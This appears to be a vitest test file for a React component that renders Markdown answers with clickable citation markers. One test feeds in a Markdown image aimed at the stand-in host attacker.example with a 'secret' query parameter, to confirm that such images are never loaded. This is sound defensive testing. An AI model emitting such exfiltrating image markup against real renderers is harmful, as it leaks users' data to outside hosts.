import { describe, expect, it, vi } from "vitest";
import { render, screen } from "@testing-library/react";
import userEvent from "@testing-library/user-event";
import { I18nProvider } from "@/i18n";
import { Answer } from "./Answer";
import { linkMarkers } from "./markers";

describe("linkMarkers", () => {
  it("links [n] markers but not inside code or existing links", () => {
    expect(linkMarkers("Founded in 1993 [1][2].")).toBe("Founded in 1993 [[1]](#cite-1)[[2]](#cite-2).");
    expect(linkMarkers("use `a[0]` and [docs](http://x) [3]")).toBe("use `a[0]` and [docs](http://x) [[3]](#cite-3)");
  });
});

describe("Answer", () => {
  it("renders Markdown and turns each marker into a button opening that source", async () => {
    const onCite = vi.fn();
    render(
      <I18nProvider lang="en">
        <Answer text={"- **Debian** began in 1993 [2]\n- by Ian Murdock [1]"} onCite={onCite} />
      </I18nProvider>,
    );
    expect(screen.getByText("Debian").tagName).toBe("STRONG");
    expect(screen.getAllByRole("listitem")).toHaveLength(2);
    await userEvent.click(screen.getByRole("button", { name: "Open source 2" }));
    expect(onCite).toHaveBeenCalledWith(2);
  });

  it("loads no image an answer names, remote or not: it shows the alternative text", () => {
    const { container } = render(
      <I18nProvider lang="en">
        <Answer
          text={"Revenue grew [1]. ![chart](https://attacker.example/c.png?q=secret) ![](/api/v1/x.png)"}
          onCite={() => {}}
        />
      </I18nProvider>,
    );
    expect(container.querySelector("img")).toBeNull();
    expect(container.innerHTML).not.toContain("attacker.example");
    expect(screen.getByTestId("answer-image-alt").textContent).toBe("[chart]");
  });
});
